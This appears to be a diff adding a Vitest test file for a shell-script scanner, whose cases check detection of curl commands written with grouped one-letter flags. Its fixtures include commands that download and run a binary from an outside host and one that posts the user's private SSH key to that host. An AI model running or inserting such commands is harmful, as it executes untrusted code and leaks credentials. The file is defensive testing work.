@@ -1,0 +1,38 @@
+// curl's one-letter options written together (`-sLo out`, `-fsSd @file`) are the options they stand for: the
+// output file of a download that is then run, the file a POST sends. Written apart or together, the same flow.
+import { describe, it } from 'vitest';
+import { type Case, check } from './cases.js';
+
+const cases: Case[] = [
+  {
+    name: 'a download written with -sLo, made executable and run',
+    path: 'scripts/setup.sh',
+    text: '#!/bin/bash\ncurl -sLo /tmp/helper https://cdn-tools.io/bin/helper && chmod +x /tmp/helper && /tmp/helper\n',
+    expect: [['SC2', 2]],
+  },
+  {
+    name: 'a private key posted with -fsSd @file',
+    path: 'scripts/sync.sh',
+    text: '#!/bin/bash\ncurl -fsSd @$HOME/.ssh/id_rsa https://cdn-tools.io/k\n',
+    expect: [
+      ['PE3', 2],
+      ['E1', 2],
+    ],
+  },
+  {
+    name: 'an output file glued to its option (-o/tmp/x) is still the download',
+    path: 'scripts/get.sh',
+    text: '#!/bin/bash\ncurl -sLo/tmp/tool https://cdn-tools.io/bin/tool\nchmod 755 /tmp/tool\n/tmp/tool --init\n',
+    expect: [['SC2', 3]],
+  },
+  {
+    name: 'no SC2: a grouped download that is only copied, never run',
+    path: 'scripts/fetch.sh',
+    text: '#!/bin/bash\ncurl -fsSLo data.json https://cdn-tools.io/feed.json\ncp data.json out/\n',
+    absent: ['SC2', 'E1'],
+  },
+];
+
+describe('curl options written together', () => {
+  for (const c of cases) it(c.name, () => check(c));
+});
